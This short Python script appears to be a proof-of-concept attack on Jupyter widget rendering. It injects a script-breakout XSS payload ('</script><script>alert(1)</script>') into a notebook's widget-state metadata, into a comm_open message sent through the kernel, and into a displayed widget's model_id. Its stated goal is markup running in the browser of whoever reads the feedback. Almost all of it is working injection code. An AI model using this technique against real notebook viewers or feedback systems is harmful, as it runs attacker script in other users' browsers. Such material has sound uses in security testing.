# State of widgets, in the notebook's metadata and by messages, with what ends a script's element.
# Success: markup runs in the browser of whoever reads the feedback.
# %% edit
end = "</script><script>alert(1)</script>"
state = {"a" * 32: {"model_name": end, "model_module": "m", "model_module_version": "1", "state": {}}}
kind = "application/vnd.jupyter.widget-state+json"
notebook["metadata"]["widgets"] = {kind: {"state": state, "version_major": 2, "version_minor": 0}}
# %% last
from IPython.display import display

end = "</script><script>alert(1)</script>"
kernel = get_ipython().kernel
content = {"comm_id": "b" * 32, "target_name": "jupyter.widget", "data": {"state": {
    "_model_name": end, "_model_module": end, "_model_module_version": "1", "value": end}}}
kernel.session.send(
    getattr(kernel, "iopub_socket", None), "comm_open", content, parent=kernel.get_parent(),
    metadata={"version": "2.1.0"},
)
view = {"model_id": "b" * 32 + end, "version_major": 2, "version_minor": 0}
display({"application/vnd.jupyter.widget-view+json": view, "text/plain": "x"}, raw=True)
